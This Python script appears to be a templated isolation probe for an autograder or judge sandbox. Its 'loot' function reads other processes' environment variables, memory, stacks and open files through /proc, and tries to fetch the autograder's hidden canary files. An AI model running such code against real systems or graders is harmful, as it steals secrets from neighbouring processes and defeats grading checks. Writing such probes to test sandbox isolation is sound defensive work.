"""Reads what /proc tells of other processes: environment, memory, files, working directories."""
# %% extra
import os

def loot(path):
    try:
        print(path, open(path, "rb").read(100_000))
    except Exception as error:
        print(type(error).__name__)

pids = sorted({*(p for p in (os.listdir("/proc") if os.access("/proc", os.R_OK) else [])  if p.isdigit()),
               "1", "2", "self", str(os.getppid()), "@JUDGE@", "@VICTIM@"})
for pid in pids:
    for name in ("environ", "cmdline", "maps", "stack", "auxv", "mem", "root/@COURSE@/.autograder/canary",
                 "cwd/.autograder/canary", "root@SECRET@"):
        loot(f"/proc/{pid}/{name}")
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"): loot(f"/proc/{pid}/fd/{fd}") if pid != "self" else None
    except OSError as error: print(type(error).__name__)
